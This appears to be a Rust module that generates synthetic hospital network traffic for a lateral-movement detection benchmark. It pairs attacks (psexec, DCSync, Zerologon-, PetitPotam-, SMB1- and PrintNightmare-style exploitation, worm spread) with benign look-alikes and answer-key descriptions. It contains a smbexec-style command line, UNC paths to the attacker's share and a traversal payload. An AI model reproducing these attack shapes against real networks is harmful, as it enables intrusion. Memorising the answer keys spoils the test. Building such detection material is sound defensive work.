//! Captures of what is run, left, asked for and broken on other hosts: `remote-exec`, `admin-share`, `dcsync`, `exploit-shape`, `worm-payload`.

use super::further::Further;
use super::hospital::*;
use super::net::{Host, MS, Net, S};
use super::recipes::{Recipe, START};
use super::rpc::{self, DRSUAPI, EFSRPC, Ndr, Rpc, SPOOLSS, SRVSVC, SVCCTL, TASKS, WBEM, WINREG};
use super::smb::{ACCESS_DENIED, Logon, use_files};
use super::smb1::Smb1;
use super::stories::STOLEN;
use super::tcp::Tcp;
use super::{ward, winrm};

/// When the story begins.
const T: u64 = START + 60 * S;
const STOLEN_AS: Logon = Logon { domain: "HILL", user: STOLEN, workstation: "WARD-PC07" };
const ADMIN_AS: Logon = Logon { domain: "HILL", user: "svc-itam", workstation: "ITAM" };
const BACKUP_AS: Logon = Logon { domain: "HILL", user: "svc-backup", workstation: "BACKUP" };
const NURSE: Logon = Logon { domain: "HILL", user: "nurse3", workstation: "WARD-PC01" };

/// A port of a Windows host's dynamic range.
const DYNAMIC: u16 = 49_670;

/// A program by an administrative share, then a service that runs it: how psexec and what is made after it work.
fn psexec(net: &mut Net, t: u64, a: &Host, b: &Host, who: &Logon, name: &str, program: &[u8]) -> u64 {
    let mut s = rpc::pipes(net, t, a, b, who);
    s.tree(net, "ADMIN$", 0).leave(net, &format!("{name}.exe"), program);
    s.tree(net, "IPC$", 0);
    rpc::run_service(net, &mut s, name, &format!("%SystemRoot%\\{name}.exe"), (0, 0));
    s.close(net)
}

pub const REMOTE_EXEC: Recipe = Recipe {
    id: "remote-exec",
    attack: |net| {
        let from = &WARD[6];
        let t = psexec(net, T, from, &WARD[2], &STOLEN_AS, "WINSVC31", &rpc::program(1, 18_000));
        // The same without a file: a command line behind a service, which reports nothing in time.
        let mut s = rpc::pipes(net, t + 3 * S, from, &LAB, &STOLEN_AS);
        let line = "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__o 2^>^&1 > %TEMP%\\e.bat & %COMSPEC% /Q /c %TEMP%\\e.bat";
        rpc::run_service(net, &mut s, "BTOBTO", line, (0, 1053));
        let t = s.close(net);
        // A task and a method through WMI, sealed; a shell.
        let mut r = Rpc::tcp(net, t + 3 * S, from, &EMR, DYNAMIC, TASKS, &STOLEN_AS);
        r.sealed(net, 0, 16, 24).sealed(net, 1, 3_184, 176).sealed(net, 12, 120, 96);
        let t = r.close(net);
        let mut r = Rpc::tcp(net, t + 3 * S, from, &PACS, DYNAMIC + 4, WBEM, &STOLEN_AS);
        r.sealed(net, 6, 160, 4_200).sealed(net, 24, 896, 848);
        let t = r.close(net);
        let t = winrm::session(net, t + 3 * S, from, &FILES, &STOLEN_AS, winrm::SHELL, 6);
        // Refused: the account may not do it here.
        let mut s = rpc::pipes(net, t + 3 * S, from, &INFRA2, &STOLEN_AS);
        rpc::run_service(net, &mut s, "BTOBTO", "cmd.exe /c whoami", (5, 0));
        s.close(net);
    },
    benign: |net| {
        // IT's own host (listed) installs its agent by a service on several terminals, and has the task scheduler, WMI and the registry at work.
        let mut t = T;
        for h in &WARD[..4] {
            t = psexec(net, t, &ADMIN, h, &ADMIN_AS, "itamagent", &rpc::program(9, 9_000)) + 2 * S;
        }
        let mut r = Rpc::tcp(net, t, &ADMIN, &EMR, DYNAMIC, TASKS, &ADMIN_AS);
        r.sealed(net, 1, 2_900, 160);
        let t = r.close(net) + S;
        let mut r = Rpc::tcp(net, t, &ADMIN, &WARD[4], DYNAMIC, WBEM, &ADMIN_AS);
        r.sealed(net, 20, 300, 400).sealed(net, 24, 900, 800);
        r.close(net);
        // An ordinary computer asks: services are listed, the registry is read, WMI is queried, a printer's host tells its state.
        let clerk = Logon { domain: "HILL", user: "clerk", workstation: "OFFICE-02" };
        let mut s = rpc::pipes(net, T + 5 * S, &OFFICE[1], &FILES, &clerk);
        let mut r = Rpc::pipe(net, &mut s, "svcctl", SVCCTL);
        r.call(net, 15, Ndr::new().u32(0).u32(0).u32(4), Ndr::new().handle().u32(0));
        r.call(net, 14, Ndr::new().handle().u32(0x30).u32(3).u32(0), Ndr::new().u32(0).u32(512).u32(0).u32(0).u32(234));
        r.call(net, 6, Ndr::new().handle(), Ndr::new().bytes(&[0; 28]).u32(0));
        r.close(net);
        let mut r = Rpc::pipe(net, &mut s, "winreg", WINREG);
        r.call(net, 2, Ndr::new().u32(0).u32(0x0200_0000), Ndr::new().handle().u32(0));
        r.call(
            net,
            15,
            Ndr::new().handle().counted("SYSTEM\\CurrentControlSet\\Control\\ProductOptions").u32(0).u32(0x2_0019),
            Ndr::new().handle().u32(0),
        );
        r.call(net, 17, Ndr::new().handle().counted("ProductType").u32(0), Ndr::new().u32(1).u32(0));
        r.close(net);
        s.close(net);
        let mut r = Rpc::tcp(net, T + 12 * S, &OFFICE[1], &LAB, DYNAMIC, WBEM, &clerk);
        r.sealed(net, 20, 280, 400).sealed(net, 6, 100, 900);
        r.close(net);
        // Computers hand their events to a collector.
        for (i, h) in WARD[..3].iter().enumerate() {
            let me = Logon { domain: "HILL", user: "ward$", workstation: h.name };
            winrm::session(net, T + (20 + 5 * i as u64) * S, h, &LAB, &me, winrm::EVENTS, 5);
        }
    },
    site: "",
    attack_is: &[
        "WARD-PC07, with a stolen administrator's account (NTLM, HILL\\adm-kondo), leaves a program in ADMIN$ of WARD-PC03 and runs it as a service; runs a command line behind a service on the laboratory's server (which reports nothing in time: 1053); registers and runs a task on the record's server and calls a method through WMI on the archive, both sealed; works in a remote shell on the file server (WS-Management, encrypted).",
        "On the second domain controller the service is refused.",
    ],
    benign_is: &[
        "IT's own host (listed) installs its agent by a service on four terminals, registers a task and calls a method through WMI.",
        "An office computer lists services, reads the registry and queries WMI; three terminals hand their events to a collector over WS-Management.",
    ],
    traps: &["A service that reports nothing in time has run all the same.", "Event forwarding logs on to `/wsman` too, and every five minutes."],
};

pub const ADMIN_SHARE: Recipe = Recipe {
    id: "admin-share",
    attack: |net| {
        let from = &WARD[6];
        let mut s = rpc::pipes(net, T, from, &WARD[3], &STOLEN_AS);
        s.tree(net, "C$", 0).leave(net, "ProgramData\\upd\\list.dat", &rpc::program(2, 12_000));
        let t = s.close(net);
        // Hives are saved by the registry, fetched by the share.
        let mut s = rpc::pipes(net, t + 4 * S, from, &LAB, &STOLEN_AS);
        let mut r = Rpc::pipe(net, &mut s, "winreg", WINREG);
        r.call(net, 2, Ndr::new().u32(0).u32(0x0200_0000), Ndr::new().handle().u32(0));
        r.call(net, 15, Ndr::new().handle().counted("SAM").u32(0).u32(0x0200_0000), Ndr::new().handle().u32(0));
        r.call(net, 20, Ndr::new().handle().counted("kuTzwqAo.tmp").u32(0), Ndr::new().u32(0));
        r.close(net);
        let hive = rpc::hive(net, 28_672);
        s.tree(net, "ADMIN$", 0).take(net, "System32\\kuTzwqAo.tmp", &hive);
        let t = s.close(net);
        // Where the account has no rights.
        for (i, h) in [EMR, PACS, FILES, BACKUP].iter().enumerate() {
            let mut s = rpc::pipes(net, t + (4 + 2 * i as u64) * S, from, h, &STOLEN_AS);
            s.tree(net, "C$", ACCESS_DENIED);
            s.close(net);
        }
    },
    benign: |net| {
        // The backup reads everything, hives too; the distribution leaves programs.
        let hive = rpc::hive(net, 20_000);
        for (i, h) in [LAB, EMR].iter().enumerate() {
            let mut s = rpc::pipes(net, T + 9 * i as u64 * S, &BACKUP, h, &BACKUP_AS);
            s.tree(net, "C$", 0).take(net, "Windows\\System32\\config\\SAM", &hive).take(net, "data\\db.mdf", &rpc::program(3, 9_000));
            s.close(net);
        }
        for (i, h) in WARD[..3].iter().enumerate() {
            let mut s = rpc::pipes(net, T + (20 + 6 * i as u64) * S, &ADMIN, h, &ADMIN_AS);
            s.tree(net, "ADMIN$", 0).leave(net, "Temp\\itamsetup.exe", &rpc::program(9, 9_000));
            s.close(net);
        }
        // A user takes a program from an ordinary share and leaves one there; another is refused one administrative share.
        let mut s = rpc::pipes(net, T + 44 * S, &WARD[0], &FILES, &NURSE);
        s.tree(net, "ward3", 0).leave(net, "tools\\viewer.exe", &rpc::program(4, 6_000)).take(net, "tools\\viewer.exe", &rpc::program(4, 6_000));
        s.tree(net, "C$", ACCESS_DENIED);
        s.close(net);
    },
    site: "",
    attack_is: &[
        "WARD-PC07 (HILL\\adm-kondo) leaves a program under the name of a data file on C$ of WARD-PC04; has the laboratory server's SAM hive saved and fetches it by ADMIN$; is refused C$ by four servers.",
    ],
    benign_is: &[
        "The backup server (listed) reads two servers' drives, a SAM hive among it; IT's host (listed) leaves its set-up on three terminals.",
        "A user leaves a program on the file server's ordinary share and is refused its C$ once.",
    ],
    traps: &["The program's name says data; its first bytes say program.", "The hive has a name made of chance."],
};

/// A logon's questions to a domain controller: DRSBind, DRSCrackNames, DRSUnbind.
fn crack_names(net: &mut Net, t: u64, a: &Host, who: &Logon) -> u64 {
    let mut r = Rpc::tcp(net, t, a, &INFRA, DYNAMIC, DRSUAPI, who);
    r.sealed(net, 0, 72, 76).sealed(net, 12, 144, 272).sealed(net, 1, 36, 40);
    r.close(net)
}

/// Kerberos and LDAP as a client of this controller has them.
fn serves(net: &mut Net, t: u64, client: &Host, dc: &Host) {
    for (i, port) in [88, 389].into_iter().enumerate() {
        let mut c = Tcp::open(net, t + i as u64 * 40 * MS, client, dc, port);
        let (ask, answer) = (net.rng.bytes(220), net.rng.bytes(700));
        c.up(net, &ask).down(net, &answer).close(net);
    }
}

pub const DCSYNC: Recipe = Recipe {
    id: "dcsync",
    attack: |net| {
        serves(net, T - 20 * S, &WARD[1], &INFRA);
        let mut r = Rpc::tcp(net, T, &WARD[6], &INFRA, DYNAMIC, DRSUAPI, &STOLEN_AS);
        r.sealed(net, 0, 72, 76).sealed(net, 16, 96, 1_200).sealed(net, 12, 96, 176);
        r.sealed(net, 3, 336, 4_752).wait(30 * MS).sealed(net, 3, 336, 3_980).sealed(net, 1, 36, 40);
        r.close(net);
        // With an account that may not.
        let clerk = Logon { domain: "HILL", user: "clerk2", workstation: "OFFICE-04" };
        let mut r = Rpc::tcp(net, T + 40 * S, &OFFICE[3], &INFRA, DYNAMIC, DRSUAPI, &clerk);
        r.sealed(net, 0, 72, 76).sealed(net, 12, 96, 176).fault(net, 3, Ndr::new().bytes(&[0x77; 336]), 5);
        r.close(net);
    },
    benign: |net| {
        // Controllers replicate: one tells, the other asks; both answer Kerberos and LDAP.
        serves(net, T - 20 * S, &WARD[1], &INFRA);
        serves(net, T - 18 * S, &WARD[2], &INFRA2);
        let (one, two) = (Logon { domain: "HILL", user: "DC1$", workstation: "DC1" }, Logon { domain: "HILL", user: "DC2$", workstation: "DC2" });
        for round in 0..3u64 {
            let mut r = Rpc::tcp(net, T + round * 20 * S, &INFRA, &INFRA2, DYNAMIC, DRSUAPI, &one);
            r.sealed(net, 0, 72, 76).sealed(net, 2, 176, 16);
            let t = r.close(net);
            let mut r = Rpc::tcp(net, t + 200 * MS, &INFRA2, &INFRA, DYNAMIC, DRSUAPI, &two);
            r.sealed(net, 0, 72, 76).sealed(net, 3, 352, 9_000).sealed(net, 4, 200, 16);
            r.close(net);
        }
        // Logons of people, from everywhere.
        for (i, h) in WARD.iter().chain(&OFFICE).enumerate() {
            let me = Logon { domain: "HILL", user: "nurse", workstation: h.name };
            crack_names(net, T + (3 + 4 * i as u64) * S, h, &me);
        }
    },
    site: "",
    attack_is: &[
        "WARD-PC07 (HILL\\adm-kondo, NTLM) binds to the domain controller's replication interface, cracks a name and gets changes twice, sealed; an office computer tries the same with an account that may not and is answered by a fault.",
    ],
    benign_is: &[
        "The two domain controllers replicate three times: one tells of news, the other asks.",
        "Sixteen computers bind to the same interface and crack names, as every logon does.",
    ],
    traps: &["Everything is sealed: the operation's number and the sizes are all there is.", "The interface is bound at every logon."],
};

pub const EXPLOIT_SHAPE: Recipe = Recipe {
    id: "exploit-shape",
    attack: |net| {
        let from = &WARD[6];
        // Zeros until they are believed, then a new password.
        let mut t = T;
        for i in 0..9 {
            let code = if i == 8 { 0 } else { 0xc000_0022 };
            t = rpc::netlogon(net, t, from, &INFRA, "DC1", &[0; 8], code) + 60 * MS;
        }
        // A host is told to open a file on the attacker's, and does.
        let mut s = rpc::pipes(net, t + 5 * S, from, &INFRA2, &STOLEN_AS);
        let mut r = Rpc::pipe(net, &mut s, "lsarpc", EFSRPC);
        r.call(net, 0, Ndr::new().text(&format!("\\\\{}\\share\\a.txt", from.ip)).u32(0), Ndr::new().handle().u32(53));
        let t = r.close(net);
        s.close(net);
        let me = Logon { domain: "HILL", user: "DC2$", workstation: "DC2" };
        let mut s = rpc::pipes(net, t + 40 * MS, &INFRA2, from, &me);
        let t = s.close(net);
        // An old server is broken by its SMB 1; the back door answers.
        let mut s = Smb1::connect(net, t + 5 * S, from, &LAB);
        s.ping(net, 65).mixed(net, 12);
        let t = s.close(net);
        let mut s = Smb1::connect(net, t + 2 * S, from, &LAB);
        s.ping(net, 81);
        let t = s.close(net);
        // A driver from the attacker's share, refused; a path that climbs out of itself.
        let mut s = rpc::pipes(net, t + 5 * S, from, &FILES, &STOLEN_AS);
        let mut r = Rpc::pipe(net, &mut s, "spoolss", SPOOLSS);
        let dll = format!("\\??\\UNC\\{}\\share\\a.dll", from.ip);
        let driver =
            Ndr::new().pointer("\\\\files").u32(2).u32(2).u32(0x2_0004).u32(3).u32(0x2_0008).u32(0x2_000c).u32(0x2_0010).u32(0x2_0014).u32(0x2_0018);
        let driver = driver
            .text("1234")
            .text("Windows x64")
            .text("C:\\Windows\\System32\\DriverStore\\UNIDRV.DLL")
            .text(&dll)
            .text("C:\\Windows\\System32\\kernelbase.dll");
        r.call(net, 89, driver.u32(0x8014), Ndr::new().u32(5));
        r.close(net);
        let mut r = Rpc::pipe(net, &mut s, "browser", SRVSVC);
        let path = format!("\\{}\\..\\..\\{}", "A".repeat(120), "NOPQ");
        r.call(net, 31, Ndr::new().pointer("files").text(&path).u32(680).text("\\").u32(1).u32(0), Ndr::new().u32(0));
        r.close(net);
        s.close(net);
    },
    benign: |net| {
        // Computers log on to the domain; one with a password that is old.
        for (i, h) in WARD.iter().enumerate() {
            let credential: [u8; 8] = net.rng.bytes(8).try_into().unwrap_or([1; 8]);
            let code = if i == 4 { 0xc000_0022 } else { 0 };
            rpc::netlogon(net, T + 3 * i as u64 * S, h, &INFRA, h.name, &credential, code);
        }
        // A print client subscribes to a printer's news, names itself; the server tells it back.
        let clerk = Logon { domain: "HILL", user: "clerk", workstation: "OFFICE-02" };
        let mut s = rpc::pipes(net, T + 10 * S, &OFFICE[1], &FILES, &clerk);
        let mut r = Rpc::pipe(net, &mut s, "spoolss", SPOOLSS);
        r.call(net, 65, Ndr::new().handle().u32(0x100).u32(0).pointer("\\\\OFFICE-02").u32(1).u32(0), Ndr::new().u32(0));
        let t = r.close(net);
        let mut r = Rpc::pipe(net, &mut s, "srvsvc", SRVSVC);
        r.call(net, 31, Ndr::new().pointer("files").text("\\office\\2026\\..\\2025").u32(520).text("").u32(1).u32(0), Ndr::new().u32(0));
        r.close(net);
        s.close(net);
        let back = Logon { domain: "HILL", user: "FILES$", workstation: "FILES" };
        rpc::pipes(net, t + 100 * MS, &FILES, &OFFICE[1], &back).close(net);
        // An encrypted file of the server's own; an old modality that speaks SMB 1 and is asked nothing odd.
        let mut s = rpc::pipes(net, T + 25 * S, &OFFICE[2], &FILES, &clerk);
        let mut r = Rpc::pipe(net, &mut s, "efsrpc", EFSRPC);
        r.call(net, 0, Ndr::new().text(&format!("\\\\{}\\office\\a.xlsx", FILES.ip)).u32(0), Ndr::new().handle().u32(0));
        r.close(net);
        s.close(net);
        Smb1::connect(net, T + 40 * S, &CT, &PACS).close(net);
    },
    site: "",
    attack_is: &[
        "WARD-PC07 logs on to the domain controller with zeros nine times, the last is believed; has the second controller open a file on itself (which connects at once); sends the laboratory's server a transaction that goes on as one of another kind, after which a back door answers; wants a printer driver from its own share installed on the file server (refused) and a path that climbs out of itself made canonical.",
    ],
    benign_is: &[
        "Ten computers log on to the domain, one of them with an old password and refused.",
        "A print client subscribes to a printer's news and is told; an encrypted file is opened on its own server; an old modality speaks SMB 1.",
    ],
    traps: &["The print server connects back to its client as a coerced host would.", "An honest path may hold one step up."],
};

pub const WORM_PAYLOAD: Recipe = Recipe {
    id: "worm-payload",
    attack: |net| {
        // From one to the next, each time under another name.
        let same = rpc::program(5, 14_000);
        let way = [WARD[6], WARD[0], WARD[3], OFFICE[2], LAB];
        for (i, hop) in way.windows(2).enumerate() {
            let mut s = rpc::pipes(net, T + i as u64 * 9 * S, &hop[0], &hop[1], &STOLEN_AS);
            s.tree(net, "ADMIN$", 0).leave(net, &format!("Temp\\kb{}.exe", 4_500 + i * 37), &same);
            s.close(net);
        }
    },
    benign: |net| {
        // Distribution by IT's own host; users' programs on file servers; two scans and documents that go to several computers.
        let setup = rpc::program(9, 9_000);
        for (i, h) in WARD[..6].iter().enumerate() {
            psexec(net, T + 5 * i as u64 * S, &ADMIN, h, &ADMIN_AS, "itamagent", &setup);
        }
        let mut s = rpc::pipes(net, T + 20 * S, &WARD[0], &FILES, &NURSE);
        s.tree(net, "ward3", 0).leave(net, "viewer.exe", &setup);
        s.close(net);
        let scans = Logon { domain: "", user: "scan", workstation: "MFP-OFFICE" };
        for (i, h) in OFFICE[..4].iter().enumerate() {
            use_files(net, T + (30 + 5 * i as u64) * S, &COPIER, h, &scans, "scan", 2_000);
        }
        ward::counter(net, T + 50 * S, &ADMIN, &COPIER);
    },
    site: "",
    attack_is: &[
        "A program goes from WARD-PC07 by ADMIN$ to WARD-PC01, from there to WARD-PC04, to an office computer and to the laboratory's server, each time under another name.",
    ],
    benign_is: &[
        "IT's own host (listed) installs the same agent on six terminals; a user leaves the same program on the file server.",
        "A copier leaves scans on four computers.",
    ],
    traps: &["Names change; size and first bytes do not."],
};

pub const EXEC_BY_SUPPLIER: Further = Further {
    id: "remote-exec",
    name: "attack-supplier",
    story: |net| {
        let who = Logon { domain: "HILL", user: "acme-maint", workstation: "ACME" };
        for (i, h) in [EMR, FILES].iter().enumerate() {
            let mut r = Rpc::tcp(net, T + i as u64 * 30 * S, &SUPPLIER, h, DYNAMIC, WBEM, &who);
            r.sealed(net, 6, 160, 4_200).sealed(net, 24, 896, 848);
            r.close(net);
        }
    },
    orig: Some(SUPPLIER),
    is: "The supplier's host calls methods through WMI on two servers that are not its own, slowly and without a file.",
};

pub const EXEC_PRINTING: Further = Further {
    id: "remote-exec",
    name: "benign-printing",
    story: |net| {
        let clerk = Logon { domain: "HILL", user: "clerk", workstation: "OFFICE-02" };
        for (i, pc) in OFFICE[..4].iter().enumerate() {
            let mut s = rpc::pipes(net, T + 9 * i as u64 * S, pc, &FILES, &clerk);
            let mut r = Rpc::pipe(net, &mut s, "spoolss", SPOOLSS);
            let printer = format!("\\\\{}\\MFP", FILES.ip);
            r.call(net, 69, Ndr::new().pointer(&printer).u32(0).u32(0).u32(0).u32(8).u32(1), Ndr::new().handle().u32(0));
            r.call(net, 17, Ndr::new().handle().u32(1).u32(0), Ndr::new().u32(7).u32(0));
            r.call(net, 29, Ndr::new().handle(), Ndr::new().handle().u32(0));
            r.close(net);
            s.close(net);
        }
    },
    orig: None,
    is: "Four computers print through a print server: spoolss is opened, a document begun, and nothing is run.",
};
